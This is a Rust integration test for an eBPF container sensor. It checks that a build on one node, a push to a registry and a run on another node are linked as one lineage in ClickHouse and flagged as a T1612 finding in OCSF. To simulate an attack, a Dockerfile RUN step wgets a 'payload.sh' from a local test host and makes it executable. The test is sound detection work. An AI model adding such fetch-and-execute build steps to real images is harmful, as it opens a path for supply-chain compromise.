//! The fleet (issue 12): lineage across nodes in ClickHouse.
//!
//! Two sensors run at once on this host as `--host nodea` and `--host nodeb`. Node A builds an
//! image whose RUN step downloads from a test host and pushes it to a local registry; the image is
//! removed; node B pulls it by digest and runs it. Both streams go through
//! deploy/clickhouse/schema.sql into ClickHouse's engine in-process (PyPI `chdb`, installed by
//! `cargo xtask setup`), strictly (an unknown field or a wrongly typed value rejects the line),
//! and deploy/clickhouse/fleet_lineage.sql and fleet_findings.sql must return the chain.
//!
//! Both sensors watch the same dockerd, so node A also sees node B's container start: the fleet
//! queries must not mistake that for a cross-host start (they join builds to starts on other
//! hosts only).
//!
//! Run as root with the release sensor built:
//! `cargo build --release -p sensor && cargo test -p sensor-tests --test fleet -- --test-threads=1`
use std::path::{Path, PathBuf};
use std::time::Duration;

use sensor_tests::{
    BuildContext, Builder, Cmd, LocalRegistry, Scenario, assert_fields,
    assert_records_match_schema, build_record, docker_cli, eq, remove_image, run, sensor_bin,
    workspace_root,
};
use serde_json::Value;

const BASE: &str = "localbase:1";
const WAIT: Duration = Duration::from_secs(60);

fn py_script(name: &str) -> PathBuf {
    workspace_root().join("tests/py").join(name)
}

fn clickhouse_file(name: &str) -> String {
    workspace_root()
        .join("deploy/clickhouse")
        .join(name)
        .to_str()
        .unwrap()
        .to_string()
}

/// Runs tests/py/clickhouse_load.py over `streams` with the fleet queries; its JSON report.
fn load_into_clickhouse(streams: &[&Path], build_hosts: &[&str]) -> Value {
    let mut cmd = Cmd::new("python3")
        .arg(py_script("clickhouse_load.py"))
        .args(["--schema", &clickhouse_file("schema.sql")])
        .arg("--records-schema")
        .arg(workspace_root().join("schema/records.schema.json"))
        .args(["--query", &clickhouse_file("fleet_lineage.sql")])
        .args(["--query", &clickhouse_file("fleet_findings.sql")])
        .timeout(Duration::from_secs(120));
    for h in build_hosts {
        cmd = cmd.args(["--build-host", h]);
    }
    let out = cmd.args(streams).run();
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "clickhouse_load.py printed no JSON ({e}):\n{}",
            String::from_utf8_lossy(&out.stdout)
        )
    })
}

/// Every line of every stream loaded, none rejected, and every record field has its column.
fn assert_loaded_without_rejects(report: &Value) {
    assert_eq!(
        report["missing_columns"],
        serde_json::json!([]),
        "record fields without a column in sensor_records: {report}"
    );
    let loads = report["loads"].as_array().unwrap();
    assert!(!loads.is_empty(), "{report}");
    for l in loads {
        eprintln!(
            "clickhouse: {}: {} lines, {} loaded, {} rejected",
            l["file"], l["lines"], l["loaded"], l["rejected"]
        );
        assert!(l["lines"].as_u64().unwrap() > 0, "empty stream: {l}");
        assert_eq!(l["rejected"], 0, "lines rejected by sensor_records: {l}");
        assert_eq!(l["loaded"], l["lines"], "{l}");
    }
}

/// Every line of the OCSF sink validates against the OCSF models (tests/py/ocsf_validate.py):
/// one event per record of the NDJSON stream, the classes the mapping promises, and the chain's
/// findings as Detection Findings naming T1612 and its evidences.
fn assert_ocsf_valid(
    path: &Path,
    records: &[Value],
    (build_id, image_id, container_id): (&str, &str, &str),
    destination_ip: &str,
) {
    let out = Cmd::new("python3")
        .arg(py_script("ocsf_validate.py"))
        .arg(path)
        .timeout(Duration::from_secs(60))
        .run();
    let rep: Value = serde_json::from_slice(&out.stdout).unwrap();
    eprintln!(
        "ocsf: {} events (OCSF {}), by class {}, {} invalid",
        rep["lines"], rep["ocsf_version"], rep["classes"], rep["error_count"]
    );
    assert_eq!(
        rep["error_count"], 0,
        "invalid OCSF events: {:#}",
        rep["errors"]
    );
    // The file sink got every record the stdout sink did (sensor_stats included).
    assert_eq!(rep["lines"], records.len(), "{}", rep["classes"]);
    for class in ["0", "1007", "2004", "4001", "4002", "4003"] {
        assert!(
            rep["classes"][class].as_u64().is_some_and(|n| n > 0),
            "no OCSF class {class} event: {}",
            rep["classes"]
        );
    }
    let findings = records.iter().filter(|r| r["kind"] == "finding").count();
    assert_eq!(rep["classes"]["2004"], findings, "{}", rep["classes"]);
    let chain = rep["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["finding_info"]["title"] == "build_push_deploy_chain")
        .unwrap_or_else(|| panic!("no build_push_deploy_chain finding: {:#}", rep["findings"]));
    let attack = &chain["finding_info"]["attacks"][0];
    assert_eq!(attack["technique"]["uid"], "T1612", "{chain}");
    assert_eq!(attack["tactic"]["uid"], "TA0005", "{chain}");
    assert_eq!(
        chain["finding_info"]["related_analytics"][0]["uid"], "AN0946",
        "{chain}"
    );
    let evidence = |finding: &Value, what: &str| {
        finding["evidences"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["data"]["evidence"] == what)
            .cloned()
            .unwrap_or_else(|| panic!("no {what} evidence: {finding}"))
    };
    assert_eq!(
        evidence(chain, "build")["resources"][0]["uid"],
        build_id,
        "{chain}"
    );
    assert_eq!(
        evidence(chain, "image")["resources"][0]["uid"],
        image_id,
        "{chain}"
    );
    assert_eq!(
        evidence(chain, "container")["container"]["uid"],
        container_id,
        "{chain}"
    );
    // The deploy finding names the client that started the container and the build's download.
    let deploy = rep["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["finding_info"]["title"] == "deploy_soon_after_build")
        .unwrap_or_else(|| panic!("no deploy_soon_after_build finding: {:#}", rep["findings"]));
    let client = evidence(deploy, "client");
    assert_eq!(
        client["actor"]["process"]["file"]["path"],
        docker_cli(),
        "{deploy}"
    );
    let download = serde_json::json!({"ip": destination_ip, "port": 8080});
    assert!(
        deploy["evidences"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["data"]["evidence"] == "destination" && e["dst_endpoint"] == download),
        "no destination evidence {download}: {deploy}"
    );
}

fn write_stream(dir: &Path, name: &str, lines: &[String]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, lines.join("\n") + "\n").unwrap();
    p
}

/// The recorded streams of the other end-to-end tests (tests/fixtures, kernel records of real
/// builds) and the derived records `sensor replay` makes of them (builds, starts, findings) load
/// with no line rejected, and every field of every record kind in the JSON Schema has its
/// column. A line with a field the table lacks is rejected: the load is strict.
#[test]
fn recorded_streams_load_into_clickhouse_without_rejects() {
    let dir = workspace_root().join("tests/fixtures");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "ndjson"))
        .collect();
    files.sort();
    assert!(files.len() >= 5, "{files:?}");
    let tmp = tempfile::tempdir().unwrap();
    let mut derived = Vec::new();
    for f in &files {
        let out = Cmd::new(sensor_bin()).arg("replay").arg(f).run();
        let name = format!("replay-{}", f.file_name().unwrap().to_str().unwrap());
        let lines: Vec<String> = String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(str::to_string)
            .collect();
        derived.push(write_stream(tmp.path(), &name, &lines));
    }
    let mut all: Vec<&Path> = files.iter().map(PathBuf::as_path).collect();
    all.extend(derived.iter().map(PathBuf::as_path));
    let report = load_into_clickhouse(&all, &[]);
    assert_loaded_without_rejects(&report);
    assert!(
        report["derived"]["builds"].as_u64().unwrap() >= 5,
        "{}",
        report["derived"]
    );

    // Strictness: a field sensor_records does not know rejects the line (and only that line).
    let good = std::fs::read_to_string(&files[0]).unwrap();
    let good = good.lines().next().unwrap();
    let bad = good.replacen('{', r#"{"no_such_field":1,"#, 1);
    let mixed = write_stream(tmp.path(), "mixed.ndjson", &[good.to_string(), bad]);
    let report = load_into_clickhouse(&[&mixed], &[]);
    let load = &report["loads"][0];
    assert_eq!(
        (&load["loaded"], &load["rejected"]),
        (&1.into(), &1.into()),
        "{load}"
    );
    assert!(
        load["errors"][0]["error"]
            .as_str()
            .unwrap()
            .contains("no_such_field"),
        "{load}"
    );
}

#[test]
fn build_on_one_node_push_then_run_on_another_is_one_lineage_in_clickhouse() {
    let sc = Scenario::new("the fleet test (dockerd, a local registry, network namespaces, eBPF)");
    let src = sc.host("fleetsrc");
    src.serve_http(8080, &[("payload.sh", b"#!/bin/sh\necho implanted\n")]);
    let registry = LocalRegistry::start();
    let dir = sc.dir();
    let ocsf_a = dir.join("nodea.ocsf.ndjson");
    let ocsf_sink = format!("file:{}?format=ocsf&name=ocsf", ocsf_a.display());
    let state_a = dir.join("state-a");
    let state_b = dir.join("state-b");
    let mut node_a = sc.start_sensor(&[
        "--host",
        "nodea",
        "--state-dir",
        state_a.to_str().unwrap(),
        "--sink",
        "stdout",
        "--sink",
        &ocsf_sink,
    ]);

    // Node A: build with a download from the test host, push to the registry. The step also asks
    // the test host for a name (it serves no DNS: the query goes out, unanswered), so that the
    // OCSF stream has a DNS Activity event too.
    let tag = sc.tag("fleet");
    let (repo, version) = tag.split_once(':').unwrap();
    let pushed = format!("{}/{repo}:{version}", registry.host());
    sc.image(&pushed);
    let url = src.url(8080, "payload.sh");
    BuildContext::new(&format!(
        "FROM {BASE}\nRUN (nslookup payload.fleet-test.example {ip} || true) && wget -q -O /payload.sh {url} && chmod +x /payload.sh\n",
        ip = src.ip()
    ))
    .build(&tag, Builder::BuildKit);
    let build = build_record(&node_a, "build_finished", &tag, WAIT);
    assert_fields(
        &build,
        &[("host", eq("nodea")), ("status", eq("succeeded"))],
    );
    let build_id = build["build_id"].as_str().unwrap().to_string();
    let image_id = build["image_id"].as_str().unwrap().to_string();
    run(docker_cli(), &["tag", &tag, &pushed]);
    let repo_digest = registry.push(&pushed);
    // Pulled back by digest below: removed at the end too.
    sc.image(&repo_digest);
    let digest = repo_digest.split_once('@').unwrap().1.to_string();
    node_a.expect_record("image_push", &[("reference", eq(pushed.as_str()))], WAIT);

    // Node B comes up knowing nothing of the build; the image leaves this host's store.
    let mut node_b =
        sc.start_sensor(&["--host", "nodeb", "--state-dir", state_b.to_str().unwrap()]);
    remove_image(&pushed);
    remove_image(&tag);
    assert!(
        !Cmd::new(docker_cli())
            .args(["image", "inspect", &image_id])
            .try_run()
            .is_ok_and(|o| o.status.success()),
        "image {image_id} is still in the store"
    );

    // Node B: pull by digest and run.
    Cmd::new(docker_cli())
        .args(["pull", &repo_digest])
        .timeout(Duration::from_secs(120))
        .run();
    let name = sc.container_name("fleet");
    run(
        docker_cli(),
        &["run", "--rm", "--name", &name, &repo_digest, "true"],
    );
    let start = node_b.expect_record("container_start", &[("name", eq(name.as_str()))], WAIT);
    assert_fields(
        &start,
        &[("host", eq("nodeb")), ("image_id", eq(image_id.as_str()))],
    );
    assert!(
        start.get("build_id").is_none(),
        "node B knew the build: {start}"
    );
    let container_id = start["container_id"].as_str().unwrap().to_string();
    // Node A sees the same start on this shared dockerd: wait for it so that both streams hold it.
    node_a.expect_record("container_start", &[("name", eq(name.as_str()))], WAIT);
    assert!(node_b.stop().unwrap().success());
    assert!(node_a.stop().unwrap().success());
    assert_records_match_schema(&node_a.records());
    assert_records_match_schema(&node_b.records());
    let stream_a = write_stream(dir, "nodea.ndjson", &node_a.raw_lines());
    let stream_b = write_stream(dir, "nodeb.ndjson", &node_b.raw_lines());

    assert_ocsf_valid(
        &ocsf_a,
        &node_a.records(),
        (&build_id, &image_id, &container_id),
        &src.ip().to_string(),
    );

    let report = load_into_clickhouse(&[&stream_a, &stream_b], &["ci-runner"]);
    assert_loaded_without_rejects(&report);
    eprintln!(
        "clickhouse: engine {} (chdb {}), rows by host {}, derived {}",
        report["engine"], report["chdb"], report["rows"], report["derived"]
    );

    // Fleet lineage: node B's start joined to node A's build, by image id and by digest.
    let lineage = report["queries"]["fleet_lineage.sql"].as_array().unwrap();
    for row in lineage {
        assert_ne!(
            row["build_host"], row["start_host"],
            "a same-host start in the fleet lineage: {row}"
        );
    }
    let ours: Vec<&Value> = lineage
        .iter()
        .filter(|r| r["container_id"] == container_id.as_str())
        .collect();
    assert_eq!(ours.len(), 1, "{lineage:#?}");
    let row = ours[0];
    assert_eq!(row["image_id"], image_id.as_str(), "{row}");
    assert_eq!(row["build_host"], "nodea", "{row}");
    assert_eq!(row["build_id"], build_id.as_str(), "{row}");
    assert_eq!(row["start_host"], "nodeb", "{row}");
    assert_eq!(row["container_id"], container_id.as_str(), "{row}");
    assert_eq!(row["image"], repo_digest.as_str(), "{row}");
    let secs = row["seconds_since_build"].as_i64().unwrap();
    assert!((0..300).contains(&secs), "{row}");
    assert_eq!(
        row["joined_by"],
        serde_json::json!(["digest", "image_id"]),
        "{row}"
    );
    let dest = format!("{}:8080", src.ip());
    assert!(
        row["outbound_not_allowed"]
            .as_array()
            .unwrap()
            .iter()
            .any(|o| o.as_str().is_some_and(|o| o.starts_with(&dest))),
        "the build's download from {dest} is not in the row: {row}"
    );

    // Fleet findings: built on a host not in build_hosts, and AN0946 across hosts.
    let findings = report["queries"]["fleet_findings.sql"].as_array().unwrap();
    let rule = |name: &str| {
        findings
            .iter()
            .find(|f| f["rule"] == name && f["container_id"] == container_id.as_str())
            .unwrap_or_else(|| panic!("no {name} for {container_id}: {findings:#?}"))
    };
    let unlisted = rule("fleet_build_on_unlisted_host");
    assert_eq!(unlisted["build_host"], "nodea", "{unlisted}");
    assert_eq!(unlisted["start_host"], "nodeb", "{unlisted}");
    let chain = rule("fleet_build_push_deploy_chain");
    assert_eq!(chain["analytics"], serde_json::json!(["AN0946"]), "{chain}");
    assert_eq!(chain["attack"], serde_json::json!(["T1612"]), "{chain}");
    assert_eq!(chain["build_id"], build_id.as_str(), "{chain}");
    assert_eq!(chain["pushed_reference"], pushed.as_str(), "{chain}");
    assert_eq!(chain["pushed_digest"], digest.as_str(), "{chain}");
    assert_eq!(chain["start_host"], "nodeb", "{chain}");
    assert!(
        findings.iter().all(|f| f["build_host"] != f["start_host"]),
        "{findings:#?}"
    );
}
